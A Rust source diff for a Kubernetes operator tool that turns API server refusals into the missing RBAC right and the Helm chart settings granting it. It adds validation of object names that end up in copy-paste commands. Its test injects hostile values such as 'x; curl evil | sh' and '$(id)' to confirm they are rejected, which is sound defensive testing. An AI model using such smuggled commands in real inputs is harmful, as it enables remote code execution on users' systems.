@@ -1,5 +1,8 @@
 //! Right that a role lacks, out of the API server's refusal: its `Status` has no field for account, verb and resource.
 
+use super::error::FORBIDDEN;
+use dormer_proto::message::Failure;
+
 /// What the API server calls a ServiceAccount, before its namespace and name.
 const SERVICE_ACCOUNT: &str = "system:serviceaccount:";
 
@@ -10,8 +13,8 @@ pub struct LackedRight {
     pub account: Option<RefusedAccount>,
     /// Verb, resource and namespace, as `dormer preflight --cluster` writes them.
     pub right: String,
-    /// Setting of the chart that grants it. `None`: every installation has the right.
-    pub setting: Option<String>,
+    /// Settings of the chart that grant it, the likeliest first. None: every installation has the right.
+    pub settings: Vec<String>,
 }
 
 /// Account in a refusal.
@@ -24,21 +27,37 @@ pub enum RefusedAccount {
 }
 
 impl RefusedAccount {
-    fn of(account: &str) -> Self {
-        let of_pod = account.strip_prefix(SERVICE_ACCOUNT);
-        match of_pod.and_then(|it| it.split_once(':')) {
-            Some((namespace, name)) => Self::ServiceAccount {
-                namespace: namespace.to_owned(),
-                name: name.to_owned(),
-            },
-            None => Self::User(account.to_owned()),
-        }
+    /// `None`: a pod's account whose namespace or name cannot be one.
+    fn of(account: &str) -> Option<Self> {
+        let Some(of_pod) = account.strip_prefix(SERVICE_ACCOUNT) else {
+            return Some(Self::User(account.to_owned()));
+        };
+        let (namespace, name) = of_pod.split_once(':')?;
+        (is_name(namespace) && is_name(name)).then(|| Self::ServiceAccount {
+            namespace: namespace.to_owned(),
+            name: name.to_owned(),
+        })
     }
 }
 
+/// Whether Kubernetes could have an object of that name. Names become part of a command that people copy.
+fn is_name(text: &str) -> bool {
+    let fits = |c: char| matches!(c, 'a'..='z' | '0'..='9' | '-' | '.');
+    !text.is_empty() && !text.starts_with('-') && text.chars().all(fits)
+}
+
 impl LackedRight {
-    /// The right in a failure's message. `None`: it is no refusal for want of a right, or it was cut. A refusal by an
-    /// admission policy names no right.
+    /// The right in a failure of a task. `None`: the API server did not refuse it for want of a right, or the message was
+    /// cut. The code decides: a host writes the message of its own failures.
+    #[must_use]
+    pub fn of_failure(failure: &Failure) -> Option<Self> {
+        (failure.code == FORBIDDEN)
+            .then(|| Self::of(&failure.message))
+            .flatten()
+    }
+
+    /// The right in a text of the API server's. `None`: it is no refusal for want of a right, or it was cut. A refusal by
+    /// an admission policy names no right.
     #[must_use]
     pub fn of(message: &str) -> Option<Self> {
         Self::of_authorizer(message).or_else(|| Self::of_signer(message))
@@ -57,12 +76,15 @@ impl LackedRight {
             // It was cut, and the namespace with it.
             None => return None,
         };
+        if namespace.is_some_and(|it| !is_name(it)) {
+            return None;
+        }
         let dot = if group.is_empty() { "" } else { "." };
         let within = namespace.map_or_else(String::new, |it| format!(" in {it}"));
         Some(Self {
-            account: Some(RefusedAccount::of(account)),
+            account: Some(RefusedAccount::of(account)?),
             right: format!("{verb} {resource}{dot}{group}{within}"),
-            setting: setting(verb, resource, group, namespace),
+            settings: settings(verb, resource, group, namespace),
         })
     }
 
@@ -74,24 +96,36 @@ impl LackedRight {
         Some(Self {
             account: None,
             right: format!("approve signers.certificates.k8s.io/{signer}"),
-            setting: None,
+            settings: Vec::new(),
         })
     }
 }
 
-/// Setting of the chart without which it does not grant the right (`deploy/chart/templates/rbac.yaml`).
-fn setting(verb: &str, resource: &str, group: &str, namespace: Option<&str>) -> Option<String> {
+/// Settings of the chart without which it does not grant the right (`deploy/chart/templates/rbac.yaml`,
+/// `deploy/chart/templates/canary.yaml`).
+fn settings(verb: &str, resource: &str, group: &str, namespace: Option<&str>) -> Vec<String> {
     match (group, resource, verb) {
         ("cluster.x-k8s.io", _, _) => {
             let namespace = namespace.unwrap_or("'*'");
-            Some(format!("clusterApiNamespace={namespace}"))
+            vec![format!("clusterApiNamespace={namespace}")]
         }
         ("dormer.io", "windowshosts" | "windowshosts/status", _) | ("", "nodes", "delete") => {
-            Some("ownHosts=true".to_owned())
+            vec!["ownHosts=true".to_owned()]
         }
-        ("", "pods", "delete") => Some("forcedDrains=true".to_owned()),
-        _ => None,
+        ("", "pods", "delete") => {
+            let forced = Some("forcedDrains=true".to_owned());
+            forced.into_iter().chain(canaries(namespace)).collect()
+        }
+        ("", "pods", "create") | ("", "pods/log" | "pods/exec" | "services", _) => {
+            canaries(namespace).into_iter().collect()
+        }
+        _ => Vec::new(),
     }
+}
+
+/// Setting with which workers may run canary pods in that namespace, and nowhere else.
+fn canaries(namespace: Option<&str>) -> Option<String> {
+    namespace.map(|it| format!("canaryNamespace={it}"))
 }
 
 #[cfg(test)]
@@ -111,10 +145,28 @@ mod tests {
         };
         assert_eq!(found.account, Some(account));
         assert_eq!(found.right, "patch machines.machine.openshift.io in m");
-        assert_eq!(found.setting, None);
+        assert!(found.settings.is_empty(), "{found:?}");
         let of_person = REFUSAL.replace("system:serviceaccount:home:dormer-worker", "ann");
         let found = LackedRight::of(&of_person).expect("a right");
         assert_eq!(found.account, Some(RefusedAccount::User("ann".to_owned())));
+    }
+
+    /// A host writes the message of its own failures, and the console shows the namespaces in commands.
+    #[test]
+    fn only_a_refusal_by_the_api_server_with_names_of_kubernetes_counts() {
+        let refused = Failure::transient(FORBIDDEN, REFUSAL);
+        assert_eq!(LackedRight::of_failure(&refused), LackedRight::of(REFUSAL));
+        let of_host = Failure::transient("other", REFUSAL);
+        assert_eq!(LackedRight::of_failure(&of_host), None);
+        for planted in ["x; curl evil | sh", "$(id)", "-x", "", "A"] {
+            for planted in [
+                REFUSAL.replace(":home:", &format!(":{planted}:")),
+                REFUSAL.replace(":dormer-worker", &format!(":{planted}")),
+                REFUSAL.replace("namespace \"m\"", &format!("namespace \"{planted}\"")),
+            ] {
+                assert_eq!(LackedRight::of(&planted), None, "{planted}");
+            }
+        }
     }
 
     /// A failure's message has a limit, and half of a name would be another one.
